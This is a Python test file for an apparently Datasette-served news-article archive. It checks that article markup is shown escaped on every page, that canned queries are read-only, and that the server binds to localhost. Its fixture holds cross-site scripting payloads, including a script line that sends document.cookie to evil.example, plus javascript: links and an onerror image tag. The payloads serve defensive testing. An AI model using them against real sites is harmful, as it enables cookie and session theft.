"""Article text is data: markup inside an article is shown escaped on every Datasette page, never run."""
import re
import sqlite3
from pathlib import Path

import pytest
import yaml
from datasette.app import Datasette

from conftest import ROOT, run_ingest
from test_ingest import write

HOSTILE = ("Council Vote Delayed <script>alert('headline')</script>\n\n"
           "The council postponed its vote on Thursday, the clerk said. "
           "<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n"
           "\u201cRead the plan <a href=\"javascript:alert('quote')\">here</a> before you judge it,\u201d "
           "councillor Maren Holt told reporters.\n\n"
           "<img src=x onerror=\"alert('img')\"> About 300 residents signed a petition, organisers said.\n")
RAW_MARKUP = ("<script>alert(", "<script>document", "href=\"javascript:", "href='javascript:", "<img src=x onerror")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    write(folder / "in" / "council.txt", HOSTILE)
    db = folder / "archive.db"  # the name Datasette gives the database: metadata.yml describes "archive"
    result = run_ingest(folder / "in", "--db", db, "--model", "blank")
    assert result.returncode == 0, result.stderr
    return db


@pytest.fixture
async def ds(hostile_db):
    metadata = yaml.safe_load((ROOT / "metadata.yml").read_text(encoding="utf-8"))
    datasette = Datasette([str(hostile_db)], metadata=metadata, settings={"sql_time_limit_ms": 1000})
    await datasette.invoke_startup()
    return datasette


def test_the_markup_reached_the_archive_as_text(hostile_db):
    with sqlite3.connect(hostile_db) as conn:
        body = conn.execute("select body from articles").fetchone()[0]
        claims = [t for (t,) in conn.execute("select text from claims")]
    assert body == HOSTILE
    assert any("javascript:" in text for text in claims)


PAGES = [
    "/archive/articles", "/archive/articles/1", "/archive/segments", "/archive/claims", "/archive/claims/1",
    "/archive/claim_details", "/archive/article_files", "/archive/claims?_search=plan",
    "/archive/articles?_search=council", "/archive/search_claims?q=plan", "/archive/search_claims?q=script",
    "/archive/article_claims?article_id=1", "/archive/direct_quotes", "/archive/single_party_or_unnamed",
    "/archive/claims_of_source?source=Holt", "/archive?sql=select+body+from+articles",
]


@pytest.mark.parametrize("page", PAGES)
async def test_markup_in_articles_is_escaped_on_every_page(ds, page):
    response = await ds.client.get(page)
    assert response.status_code == 200, page
    html = response.text
    for markup in RAW_MARKUP:
        assert markup.lower() not in html.lower(), (page, markup)


async def test_the_text_is_still_shown_escaped(ds):
    html = (await ds.client.get("/archive/articles/1")).text
    assert "&lt;script&gt;alert(" in html or "&lt;script&gt;alert(&#39;headline&#39;)" in html
    quotes = (await ds.client.get("/archive/direct_quotes")).text
    assert "javascript:" in quotes and "&lt;a href=" in quotes


def test_no_canned_query_writes():
    metadata = yaml.safe_load((ROOT / "metadata.yml").read_text(encoding="utf-8"))
    for database in metadata["databases"].values():
        for name, query in database.get("queries", {}).items():
            assert not query.get("write"), name
            assert not re.match(r"\s*(insert|update|delete|replace|create|drop|alter|attach|pragma)\b",
                                query["sql"], re.IGNORECASE), name


def test_make_serve_binds_localhost_with_a_time_limit():
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    assert re.search(r"^HOST \?= 127\.0\.0\.1$", makefile, re.MULTILINE)
    serve = re.search(r"^serve:.*?(?=^\S)", makefile, re.MULTILINE | re.DOTALL).group(0)
    assert "--host $(HOST)" in serve and "0.0.0.0" not in makefile
    limit = re.search(r"--setting sql_time_limit_ms (\d+)", serve)
    assert limit and 0 < int(limit.group(1)) <= 1000
